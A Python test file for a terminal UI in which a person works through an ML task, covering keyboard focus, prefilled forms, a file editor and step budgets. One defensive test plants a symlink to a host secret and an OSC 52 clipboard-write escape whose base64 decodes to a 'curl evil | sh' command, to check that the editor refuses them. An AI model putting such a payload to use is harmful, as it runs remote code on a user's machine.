"""A person as a first-class actor: keyboard first, forms prefilled, a real editor, timed."""

from __future__ import annotations

import threading

from environments.record.runs import RunDir
from tests.tui.conftest import SIZE, opened_run, wait_for
from tui.widgets.editor import EDIT_FILE, FileEditor


async def _choose(pilot, screen, entry: str) -> None:
    """Pick ``entry`` in the action list with the keyboard, as a person would."""
    palette = screen.query_one("#palette")
    palette.highlighted = [str(o.prompt) for o in palette.options].index(entry)
    await pilot.press("enter")

    def opened() -> bool:
        form = next(iter(screen.query("#action-form")), None)
        return isinstance(form, FileEditor) if entry == EDIT_FILE else \
            form is not None and getattr(form, "spec", None) is not None and form.spec.name == entry

    await wait_for(pilot, opened)
    await pilot.pause()


async def test_focus_starts_on_the_actions_and_enter_submits_a_prefilled_form(human_app):
    async with human_app.run_test(size=SIZE) as pilot:
        screen = await opened_run(human_app, pilot)
        assert human_app.focused is screen.query_one("#palette")
        shown = {b.action for _, b, _, _ in screen.active_bindings.values() if b.show}
        assert not shown & {"toggle_pause", "single_step"}  # no agent keys on a person's run
        model_only = [o for o in screen.query_one("#palette").options if "needs a model" in str(o.prompt)]
        assert model_only and all(o.disabled for o in model_only)
        await _choose(pilot, screen, "List Files")
        assert screen.query_one("#field-dir_path").value == "."
        await pilot.press("enter")
        await wait_for(pilot, lambda: len(screen.steps) == 1)
        assert screen.steps[0].action == "List Files" and "train.py" in screen.steps[0].observation
        await _choose(pilot, screen, "Inspect Script Lines")
        values = screen.query_one("#action-form").values()
        assert values == {"script_name": "train.py", "start_line_number": "1", "end_line_number": "3"}
    run = RunDir.open(screen.run.path)
    assert run.meta.totals.seconds > 0 and run.meta.status == "interrupted"


async def test_the_editor_opens_the_file_and_saves_a_write_file_step(human_app):
    async with human_app.run_test(size=SIZE) as pilot:
        screen = await opened_run(human_app, pilot)
        await _choose(pilot, screen, EDIT_FILE)
        editor = screen.query_one("#action-form", FileEditor)
        text = editor.query_one("#editor-text")
        assert text.text.startswith("nums = [int(x)") and human_app.focused is text
        assert text.language == "python" and "python" in text.available_languages  # highlighted
        text.load_text(text.text.replace("sum(nums)))", "2 * sum(nums)))"))
        await pilot.press("ctrl+s")
        await wait_for(pilot, lambda: len(screen.steps) == 1)
        step = screen.steps[0]
        assert step.action == "Write File" and step.args["file_name"] == "train.py"
        assert step.changed == ["train.py"]
        assert "2 * sum(nums)" in (screen.run.workspace / "train.py").read_text()


async def test_the_editor_never_reads_through_a_link_nor_loads_control_characters(human_app, tmp_path):
    """What the sandbox left in the workspace (a link to a host file, text with an OSC 52
    clipboard write) is named in the editor's note, never loaded into it."""
    secret = tmp_path / "host-secret.txt"
    secret.write_text("HOST SECRET\n")
    async with human_app.run_test(size=SIZE) as pilot:
        screen = await opened_run(human_app, pilot)
        (screen.run.workspace / "link.py").symlink_to(secret)
        (screen.run.workspace / "osc.py").write_text("print(1)  # \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n")
        await _choose(pilot, screen, EDIT_FILE)
        editor = screen.query_one("#action-form", FileEditor)
        text, note = editor.query_one("#editor-text"), editor.query_one("#editor-note")
        for name, why in (("link.py", "symlink"), ("osc.py", "control characters")):
            editor.open(name)
            await pilot.pause()
            assert why in str(note.render()) and "not opened" in str(note.render())
            assert "HOST SECRET" not in text.text and "\x1b" not in text.text


async def test_a_busy_indicator_shows_while_the_action_runs(human_app):
    async with human_app.run_test(size=SIZE) as pilot:
        screen = await opened_run(human_app, pilot)
        release = threading.Event()
        step = screen.human.step

        def slow_step(action, args):
            release.wait(60)
            return step(action, args)

        screen.human.step = slow_step
        await _choose(pilot, screen, "List Files")
        await pilot.press("enter")
        holder = screen.query_one("#form-holder")
        await wait_for(pilot, lambda: holder.loading)
        release.set()
        await wait_for(pilot, lambda: len(screen.steps) == 1 and not holder.loading)


def test_prefilled_forms_neither_follow_a_link_nor_hang_on_a_fifo_left_in_the_workspace(tmp_path):
    """A process left in the sandbox can swap the solve script for a link to a host file or a
    FIFO between steps; the form's prefill must not read the host file nor block the UI."""
    import os

    from agent import session as sessions
    from agent.config import ActorConfig
    from tests.conftest import write_task
    from tui.session import HumanSession

    begun = sessions.start(write_task(tmp_path / "tiny"), ActorConfig(kind="human"), None,
                           tmp_path / "runs", sandbox="local")
    session = HumanSession(begun.run, begun.task, begun.actor)
    try:
        assert session.suggested("Inspect Script Lines")["end_line_number"] == 3
        script = session.run.workspace / "train.py"
        secret = tmp_path / "host-secret.txt"
        secret.write_text("line\n" * 7)
        script.unlink()
        script.symlink_to(secret)
        assert session.main_script() is None and session.line_count("train.py") == 0
        assert "end_line_number" not in session.suggested("Inspect Script Lines")
        script.unlink()
        os.mkfifo(script)
        answers: list[dict] = []
        worker = threading.Thread(target=lambda: answers.append(session.suggested("Inspect Script Lines")),
                                  daemon=True)
        worker.start()
        worker.join(10)
        assert answers and session.line_count("train.py") == 0
    finally:
        session.close()


async def test_a_budget_ends_a_person_s_run_on_screen_and_the_app_scores_it(tmp_path):
    """A person's run has the task's budgets, as an agent's has: the step that reaches one ends
    the run, the screen says so and the app scores it."""
    from tests.conftest import write_task
    from tui.app import DeepLink, LabcoatApp

    toml = 'metric = "total"\ndirection = "higher"\nbaseline = 6.0\nsolve = ["train.py"]\n' \
           '[limits]\nmax_steps = 1\n'
    task = write_task(tmp_path / "tiny", toml=toml)
    app = LabcoatApp(runs_dir=tmp_path / "runs", sandbox="local", link=DeepLink(task=str(task)))
    async with app.run_test(size=SIZE) as pilot:
        screen = await opened_run(app, pilot)
        await _choose(pilot, screen, "List Files")
        await pilot.press("enter")
        await wait_for(pilot, lambda: len(screen.steps) == 1)
        await wait_for(pilot, lambda: (screen.run.path / "score.json").exists())
        assert not screen.is_live
    meta = RunDir.open(screen.run.path).meta
    assert meta.status == "max_steps" and meta.totals.steps == 1
